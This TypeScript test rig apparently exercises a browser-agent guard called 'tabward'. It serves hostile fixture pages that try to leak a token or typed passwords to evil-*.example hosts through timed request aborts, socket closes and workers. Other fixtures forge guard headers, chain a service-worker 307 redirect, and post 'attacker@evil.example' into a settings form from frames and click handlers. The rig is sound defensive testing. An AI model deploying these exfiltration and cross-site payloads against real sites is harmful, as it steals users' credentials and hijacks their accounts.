// The rig of the choke-point attack tests (test/e2e/taintRejudgedAtTheChokePoint, taintCutsOpenConnections,
// passesNoWiderThanTheirQuestion, noRequestSlipsTheChokePoint): hostile fixture pages over TLS (queues behind
// hanging requests, WebSocket allowances left unspent, password pages that leak bit by bit, forms whose pass others
// ride), the attacker's view of them (what each host received, sockets and requests ended early), and an agent
// whose human approves what the guard asks about actions and refuses every held request ("did not predict").
// Call it inside a describe: it registers the suite's before and after.

import assert from 'node:assert/strict';
import { after, before } from 'node:test';
import { WebSocketServer } from 'ws';
import { type Fixture, html, type Route, startFixture } from './fixtureServer.ts';
import { type InProcessBrowser, type InProcessMcp, startInProcess } from './inProcessMcp.ts';

const token = 'ghp_attackChokeReview271';
export const secretB = 'Tr0ub4'; // typed into login-b.example
export const secretD = 'Zq9!xK'; // typed into login-d.example
export const secretJ = 'p'; // typed into login-j.example
const secretK = 'W'; // typed into login-k.example (one character: eight bits)
export const bitsOf = (length: number) => length * 8;

export interface Upgrade {
  readonly host: string;
  readonly url: string;
}

export interface Ended extends Upgrade {
  readonly at: number;
}

export function chokePointRig() {
  let site: Fixture;
  let browser: InProcessBrowser;
  let mcp: InProcessMcp | undefined;
  const upgrades: Upgrade[] = [];
  /** WebSockets and requests whose connection closed before they were done, as the attacker's server saw it. */
  const closedSockets: Ended[] = [];
  const aborted: Ended[] = [];
  /** Hanging requests (/hang) are answered once the test lets them go. */
  let letGo: () => void = () => undefined;
  let hanging = new Promise<void>((resolve) => {
    letGo = resolve;
  });
  const holdHangs = () => {
    hanging = new Promise<void>((resolve) => {
      letGo = resolve;
    });
  };
  const url = (host: string, path: string) => site.url(host, path);
  const js = (value: string) => JSON.stringify(value);
  const from = (host: string, path: string) =>
    site.seen.filter((request) => request.host.startsWith(`${host}:`) && request.path.startsWith(path));
  const quietly = (ms: number) => new Promise((done) => setTimeout(done, ms));
  const script =
    (body: string): Route =>
    (_req, _body, res) => {
      res.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' }).end(body);
    };
  const empty: Route = (_req, _body, res) => {
    res.writeHead(204).end();
  };

  /** Six requests that hang (a host's whole HTTP/1.1 socket pool), then `queued` behind them. */
  const saturate = (queued: string) =>
    `for (let i = 0; i < 6; i++) fetch('/hang?i=' + i + '&t=' + Date.now(), { mode: 'no-cors', cache: 'no-store' }).catch(() => {});
     setTimeout(() => { ${queued}; document.title = 'queued' }, 400);`;

  before(async () => {
    site = await startFixture(
      {
        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
        '/repo': (_req, _body, res) => html(res, '<title>Repo</title><p>readme</p>'),
        '/hang': async (_req, _body, res) => {
          await hanging;
          res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('ok');
        },
        '/q': empty,
        '/bit': empty,
        // A: requests judged before the read, queued behind six hanging ones to the same host.
        '/queue': (_req, _body, res) =>
          html(
            res,
            `<title>Queue</title><p>news</p><script>${saturate(
              "for (let i = 0; i < 10; i++) fetch('/q?i=' + i, { mode: 'no-cors', cache: 'no-store' }).catch(() => {})",
            )}</script>`,
          ),
        // B: a login page that pre-queues one request per bit of the password to another host, and aborts the
        // ones for zero bits once the password is typed.
        '/login-bits': (req, _body, res) => {
          const evil = url('evil-b.example', '');
          html(
            res,
            `<title>Sign in</title><input type="password" aria-label="Password"><script>
            const evil = ${js(evil)}; const bits = ${bitsOf(secretB.length)}; const controllers = [];
            for (let i = 0; i < 6; i++) fetch(evil + '/hang?i=' + i + '&t=' + Date.now(), { mode: 'no-cors', cache: 'no-store' }).catch(() => {});
            setTimeout(() => {
              for (let k = 0; k < bits; k++) { const c = new AbortController(); controllers.push(c);
                fetch(evil + '/bit?k=' + k, { mode: 'no-cors', cache: 'no-store', signal: c.signal }).catch(() => {}) }
              document.title = 'queued';
            }, 400);
            document.querySelector('input').addEventListener('input', (e) => {
              const v = e.target.value;
              for (let k = 0; k < controllers.length; k++) if (!((v.charCodeAt(k >> 3) >> (k & 7)) & 1)) controllers[k].abort();
            });
            </script>${req.url}`,
          );
        },
        // C: WebSocket allowances the page's route grants, left unspent (the real socket's constructor throws on
        // a protocol list the mock does not check), then spent by a worker's own sockets.
        '/ws-allow': (_req, _body, res) =>
          html(
            res,
            `<title>Live</title><p>live scores</p><script>
            const base = location.origin.replace('https', 'wss');
            // Playwright's socket route (the user's Chrome) takes the bad protocol list; the real constructor throws.
            for (let i = 0; i < 40; i++) try { new WebSocket(base + '/ws?n=' + i, ['not a token']); } catch {}
            const w = new Worker(URL.createObjectURL(new Blob([\`let i = 0; setInterval(() => { new WebSocket(\${JSON.stringify(base)} + '/ws?n=' + i); new WebSocket(\${JSON.stringify(base)} + '/ws?fresh=' + i); i++ }, 400)\`])));
            </script>`,
          ),
        // D: as C, bit by bit for a typed secret.
        // L: a settings page with a form the human approves, and a cross-site frame of its tab posting there all along.
        '/settings/emails': (_req, _body, res) =>
          html(
            res,
            `<title>Emails</title><form action="/settings/emails" method="post"><input name="email" value="me@example.com" aria-label="Email">
            <button>Save email</button></form><iframe src="${url('ads-l.example', '/spam')}"></iframe>`,
          ),
        '/spam': (_req, _body, res) =>
          html(
            res,
            `<title>ad</title><script>setInterval(() => fetch(${js(url('github.com', '/settings/emails?from=frame'))}, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'email=attacker@evil.example' }).catch(() => {}), 15)</script>ad`,
          ),
        // M: a plain page whose form posts into a sensitive page; its click handler posts other values there first.
        '/newsletter': (_req, _body, res) =>
          html(
            res,
            `<title>Newsletter</title><form action="${url('github.com', '/settings/emails')}" method="post">
            <input name="email" value="me@example.com" aria-label="Email"><button id="save">Save email</button></form>
            <script>document.getElementById('save').addEventListener('click', () => fetch(${js(url('github.com', '/settings/emails?from=script'))}, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'email=attacker@evil.example' }))</script>`,
          ),
        // J: a login page whose sockets, opened before the password is typed, are closed after it: one per set bit.
        '/login-close': (_req, _body, res) => {
          const evil = url('evil-j.example', '').replace('https', 'wss');
          html(
            res,
            `<title>Sign in</title><input type="password" aria-label="Password"><script>
            const bits = ${bitsOf(secretJ.length)}; const sockets = [];
            for (let k = 0; k < bits; k++) sockets.push(new WebSocket(${js(evil)} + '/ws?k=' + k));
            document.querySelector('input').addEventListener('input', (e) => {
              const v = e.target.value;
              for (let k = 0; k < bits; k++) if ((v.charCodeAt(k >> 3) >> (k & 7)) & 1) sockets[k].close(4000, 'one');
            });
            </script>`,
          );
        },
        // K: a login page whose hanging requests (one host each), sent before the password is typed, are aborted
        // after it: one per set bit.
        '/login-abort': (_req, _body, res) => {
          const hosts = Array.from({ length: 8 }, (_, k) => url(`evil-k${k}.example`, ''));
          html(
            res,
            `<title>Sign in</title><input type="password" aria-label="Password"><script>
            const hosts = ${js(JSON.stringify(hosts))}; const controllers = [];
            for (const [k, host] of JSON.parse(hosts).entries()) { const c = new AbortController(); controllers.push(c);
              fetch(host + '/hang-abort?k=' + k, { mode: 'no-cors', cache: 'no-store', signal: c.signal }).catch(() => {}) }
            document.querySelector('input').addEventListener('input', (e) => {
              const v = e.target.value;
              for (let k = 0; k < 8; k++) if ((v.charCodeAt(0) >> k) & 1) controllers[k].abort();
            });
            </script>`,
          );
        },
        '/hang-abort': async (req, _body, res) => {
          res.on('close', () => {
            if (!res.writableFinished)
              aborted.push({ host: req.headers.host ?? '', url: req.url ?? '', at: Date.now() });
          });
          await hanging;
          if (!res.destroyed) res.writeHead(204).end();
        },
        '/login-ws': (_req, _body, res) => {
          const evil = url('evil-d.example', '').replace('https', 'wss');
          html(
            res,
            `<title>Sign in</title><input type="password" aria-label="Password"><script>
            const evil = ${js(evil)}; const bits = ${bitsOf(secretD.length)};
            for (let k = 0; k < bits; k++) try { new WebSocket(evil + '/ws?k=' + k, ['not a token']); } catch {}
            const w = new Worker(URL.createObjectURL(new Blob([\`onmessage = (e) => { for (const k of e.data) new WebSocket(\${JSON.stringify(evil)} + '/ws?k=' + k) }\`])));
            document.querySelector('input').addEventListener('input', (e) => {
              const v = e.target.value; const ones = [];
              for (let k = 0; k < bits; k++) if ((v.charCodeAt(k >> 3) >> (k & 7)) & 1) ones.push(k);
              w.postMessage(ones);
            });
            </script>`,
          );
        },
        // E: a page of the sensitive site setting its own x-tabward-request header on a write.
        '/forge': (_req, _body, res) =>
          html(
            res,
            `<title>Forge</title><p>forge</p><script>setInterval(() => {
              fetch('/settings/forged?a', { method: 'POST', headers: { 'x-tabward-request': '0'.repeat(32) }, body: 'x' }).catch(() => {});
              fetch('/settings/forged?b', { method: 'POST', headers: { 'X-Tabward-Request': 'f'.repeat(32), 'x-TABWARD-request': '' }, body: 'x' }).catch(() => {});
              fetch('/settings/forged?c', { method: 'post', body: 'x' }).catch(() => {});
              fetch('/settings/forged?d', { method: 'PaTcH', body: 'x' }).catch(() => {});
            }, 300)</script>`,
          ),
        // F: a service worker whose allowed POST to its own site is 307-redirected into a sensitive page.
        '/sw-page': (_req, _body, res) =>
          html(
            res,
            `<title>SW</title><p>offline ready</p><script>
            navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => {
              setInterval(() => r.active.postMessage('go'), 300); document.title = 'sw ready' }).catch((e) => document.title = 'sw failed ' + e);
            </script>`,
          ),
        '/sw.js': (req, body, res) =>
          script(
            `addEventListener('message', () => {
             fetch('/r307?sw', { method: 'POST', mode: 'no-cors', body: 'amount=1' }).catch(() => {});
             fetch(${js(url('github.com', '/settings/sw-direct'))}, { method: 'POST', mode: 'no-cors', body: 'amount=1' }).catch(() => {});
           })`,
          )(req, body, res),
        '/r307': (req, _body, res) => {
          res.writeHead(307, { location: url('github.com', `/settings/sw-hop?${req.url}`) }).end();
        },
        '/page-307': (_req, _body, res) =>
          html(
            res,
            `<title>Hop</title><script>setInterval(() => fetch('/r307?page', { method: 'POST', mode: 'no-cors', body: 'amount=1' }).catch(() => {}), 300)</script>`,
          ),
        // G: after a read, the fixture's own addresses in other spellings.
        '/loopback': (_req, _body, res) => {
          const port = site.port;
          const targets = [
            `https://127.0.0.1:${port}/lb?1`,
            `https://localhost:${port}/lb?2`,
            `https://0x7f000001:${port}/lb?3`,
            `https://127.1:${port}/lb?4`,
            `https://[::ffff:127.0.0.1]:${port}/lb?5`,
            `https://evil-g.example.:${port}/lb?6`,
            `https://EVIL-G.example:${port}/lb?7`,
            `https://xn--evl-g-9qa.example:${port}/lb?8`,
            `http://evil-g.example:${port}/lb?9`,
            `https://evil-g.example:${port}/lb?10=${'a'.repeat(60_000)}`,
          ];
          html(
            res,
            `<title>Loop</title><script>const t = ${js(JSON.stringify(targets))};
            setInterval(() => { for (const u of JSON.parse(t)) fetch(u, { mode: 'no-cors', cache: 'no-store' }).catch(() => {});
              navigator.sendBeacon('/lb?beacon', 'x'); new Image().src = '/lb?img=' + Date.now() }, 300)</script>`,
          );
        },
        // H: a page the agent navigates away from after a read, beaconing as it goes.
        '/goodbye': (_req, _body, res) =>
          html(
            res,
            `<title>Bye</title><script>addEventListener('pagehide', () => { navigator.sendBeacon('/bye?beacon', 'x');
              fetch('/bye?keepalive', { method: 'POST', keepalive: true, mode: 'no-cors', body: 'x' }) })</script>`,
          ),
        // I: an upload whose body is still streaming when the read happens.
        '/stream': (_req, _body, res) =>
          html(
            res,
            `<title>Stream</title><script>
            let n = 0; const body = new ReadableStream({ pull: (c) => new Promise((r) => setTimeout(() => { if (n++ > 15) c.close(); else c.enqueue(new TextEncoder().encode('at=' + Date.now() + '\\n')); r() }, 200)) });
            fetch('/upload', { method: 'POST', body, duplex: 'half' }).then(() => document.title = 'uploaded', (e) => document.title = 'upload failed ' + e);
            </script>`,
          ),
        '/upload': empty,
      },
      { tls: true },
    );
    const sockets = new WebSocketServer({ noServer: true });
    site.onUpgrade((req, socket, head) => {
      upgrades.push({ host: req.headers.host ?? '', url: req.url ?? '' });
      sockets.handleUpgrade(req, socket, head, (ws) => {
        ws.on('error', () => undefined);
        ws.on('close', () =>
          closedSockets.push({ host: req.headers.host ?? '', url: req.url ?? '', at: Date.now() }),
        );
      });
    });
    browser = await startInProcess({
      secrets: [
        `LOGIN_B@${url('login-b.example', '')}=${secretB}`,
        `LOGIN_D@${url('login-d.example', '')}=${secretD}`,
        `LOGIN_J@${url('login-j.example', '')}=${secretJ}`,
        `LOGIN_K@${url('login-k.example', '')}=${secretK}`,
        '',
      ].join('\n'),
    });
  });
  after(async () => {
    letGo();
    await mcp?.close();
    await browser?.close();
    await site?.close();
  });

  /** A fresh call path (no taint) whose human approves what the guard asks and refuses every held request. */
  async function agent(): Promise<InProcessMcp> {
    await mcp?.close();
    // The tabs an earlier test left (some beacon on their own, all the time) go quiet: each test starts afresh.
    await Promise.all(
      browser.browser.session.pages
        .list()
        .map((tracked) => tracked.page.goto('about:blank').catch(() => undefined)),
    );
    const fresh = await browser.connect();
    fresh.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
    mcp = fresh;
    return fresh;
  }

  async function readTokens(agentMcp: InProcessMcp): Promise<void> {
    const opened = await agentMcp.call('new_page', { url: url('github.com', '/settings/tokens') });
    assert.equal(opened.isError, false, opened.text);
    let shown = (await agentMcp.call('take_snapshot')).text;
    // Seen once in a loaded full run: the approved navigation refused at the choke point as untied (fail closed, its
    // single-use token already spent, probably by a request the browser sent again). Not what these tests are
    // about: the read is tried once more (an open question in the session note of 2026-12-03).
    if (!shown.includes(token) && /tabward stopped this request/.test(shown)) {
      await agentMcp.call('navigate_page', { url: url('github.com', '/settings/tokens') });
      shown = (await agentMcp.call('take_snapshot')).text;
    }
    assert.match(shown, new RegExp(token));
  }

  const tabOf = (text: string) => /Tab (p\d+)/.exec(text)?.[1] ?? '';

  return {
    /** The fixture server (its `seen` requests), once the suite started. */
    get site(): Fixture {
      return site;
    },
    get browser(): InProcessBrowser {
      return browser;
    },
    upgrades,
    closedSockets,
    aborted,
    holdHangs,
    letGo: () => letGo(),
    url,
    from,
    quietly,
    agent,
    readTokens,
    tabOf,
  };
}
